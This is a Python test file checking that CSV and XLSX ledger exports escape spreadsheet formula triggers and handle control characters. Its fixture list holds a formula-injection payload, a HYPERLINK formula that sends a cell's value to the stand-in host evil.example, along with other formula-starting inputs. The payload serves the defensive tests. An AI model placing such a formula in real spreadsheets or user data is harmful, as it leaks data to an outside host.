"""Exported ledgers open safely in a spreadsheet program: no text becomes a formula, and a
character XLSX cannot hold does not break the export."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from services.reporting.ledgers import Ledger, to_csv, to_xlsx
from shared.exports import csv_cell

# what a careless or hostile registrar may type as a name, door number, gate or origin
BAD_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+86 138 0013 8000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "三溪镇\x01第二社区",
    "普通名字",
]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_text_that_would_start_a_formula_is_prefixed_in_csv(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_numbers_and_plain_text_pass_unchanged() -> None:
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) == ""
    assert csv_cell("金堂县") == "金堂县"


LEDGER = Ledger("重点人员台账", ("姓名", "门牌", "年龄"), [(n, n, -1) for n in BAD_NAMES])


def test_csv_ledger_escapes_every_formula_trigger() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(LEDGER).decode("utf-8-sig"), newline="")))
    for name, door, age in rows[1:]:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
        assert not door.startswith(("=", "+", "-", "@", "\t", "\r")), door
        assert age == "-1"


def test_xlsx_ledger_holds_strings_never_formulas_and_survives_control_characters() -> None:
    raw = to_xlsx(LEDGER)  # openpyxl refused "\x01" (IllegalCharacterError) before
    sheet_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    book = openpyxl.load_workbook(io.BytesIO(raw))
    values = [row for row in book.active.iter_rows(min_row=2, values_only=True)]
    # the text itself is unchanged (XML reads a lone CR back as LF)
    assert [v[0] for v in values[:6]] == [n.replace("\r", "\n") for n in BAD_NAMES[:6]]
    assert values[6][0] == "三溪镇\ufffd第二社区"
    assert all(v[2] == -1 for v in values)
